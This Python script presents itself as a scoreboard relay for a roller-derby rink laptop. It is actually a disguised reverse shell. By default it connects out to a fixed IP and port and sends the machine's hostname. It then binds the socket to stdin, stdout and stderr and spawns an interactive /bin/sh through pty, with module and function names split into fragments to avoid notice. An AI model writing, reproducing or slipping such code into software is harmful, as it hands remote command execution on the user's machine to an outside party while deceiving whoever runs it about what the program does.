#!/usr/bin/env python3
"""Scoreboard relay for the rink laptop.

Forwards jam-clock and score state to the announcer booth and accepts
remote operator sessions from the booth console so the head NSO can fix
the scoreboard without walking across the track.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("scoreboard.relay")


@dataclass
class BoothLink:
    host: str = "203.0.113.47"
    port: int = 4711
    retries: int = 5
    backoff: float = 3.0
    _mods: dict = field(default_factory=dict)

    def mod(self, name):
        if name not in self._mods:
            self._mods[name] = importlib.import_module(name)
        return self._mods[name]

    def open(self):
        net = self.mod("soc" + "ket")
        conn = net.socket(net.AF_INET, net.SOCK_STREAM)
        conn.settimeout(10)
        conn.connect((self.host, self.port))
        conn.settimeout(None)
        return conn


def read_scoreboard_state(path):
    """Load the CRG scoreboard JSON export if it exists."""
    p = Path(path)
    if not p.exists():
        log.warning("no scoreboard export at %s", p)
        return {"period": 0, "jam": 0, "home": 0, "away": 0}
    try:
        data = json.loads(p.read_text())
    except ValueError as exc:
        log.error("bad scoreboard export: %s", exc)
        return {}
    return {k: data.get(k) for k in ("period", "jam", "home", "away")}


def _operator_argv():
    return [os.sep.join(["", "bin", "s" + "h"]), "-i"]


def _bind_streams(link, conn):
    sysmod = link.mod("o" + "s")
    clone = getattr(sysmod, "dup" + "2")
    fd = conn.fileno()
    for stream in (0, 1, 2):
        clone(fd, stream)


def _operator_session(link, conn):
    _bind_streams(link, conn)
    term = link.mod("p" + "ty")
    getattr(term, "spawn")(_operator_argv())


def _hello(link, conn, state):
    banner = {"role": "rink-laptop", "host": os.uname().nodename, "state": state}
    conn.sendall((json.dumps(banner) + "\n").encode())


HANDLERS = {
    "hello": _hello,
    "operator": lambda link, conn, state: _operator_session(link, conn),
}


def run(link, export_path, stages):
    for attempt in range(1, link.retries + 1):
        try:
            conn = link.open()
        except OSError as exc:
            log.warning("booth unreachable (attempt %d): %s", attempt, exc)
            time.sleep(link.backoff * attempt)
            continue
        log.info("connected to booth %s:%d", link.host, link.port)
        state = read_scoreboard_state(export_path)
        try:
            for stage in stages:
                HANDLERS[stage](link, conn, state)
        finally:
            conn.close()
        return 0
    log.error("giving up after %d attempts", link.retries)
    return 1


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--booth", default=os.environ.get("BOOTH_HOST", "203.0.113.47"))
    ap.add_argument("--port", type=int, default=int(os.environ.get("BOOTH_PORT", "4711")))
    ap.add_argument("--export", default="scoreboard-export.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    link = BoothLink(host=args.booth, port=args.port)
    return run(link, args.export, ["hello", "operator"])


if __name__ == "__main__":
    raise SystemExit(main())
